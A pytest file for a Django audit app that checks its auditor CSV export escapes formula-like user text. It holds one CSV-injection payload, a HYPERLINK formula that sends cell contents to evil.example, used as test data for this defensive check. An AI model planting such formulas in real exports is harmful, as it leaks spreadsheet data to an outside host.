"""The auditor's CSV export: text recorded from users cannot run as a formula when opened."""

import csv
import io

import pytest
from django.urls import reverse

from accounts.roles import AUDITOR, admin_role_grant
from audit.models import AuditEvent
from audit.services import audit_record

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"查看")'


def test_recorded_text_that_looks_like_a_formula_is_exported_as_text(client, django_user_model):
    audit_record(event="login_failed", username="-2+3", result="failure", detail=FORMULA)
    auditor = django_user_model.objects.create_user("aud")
    admin_role_grant(user=auditor, role=AUDITOR)
    client.force_login(auditor)
    url = reverse("admin:audit_auditevent_changelist")
    event = AuditEvent.objects.get(detail=FORMULA)
    response = client.post(url, {"action": "export_csv", "_selected_action": [event.pk]})
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row[header.index("账号")] == "'-2+3"
    assert row[header.index("说明")] == "'" + FORMULA
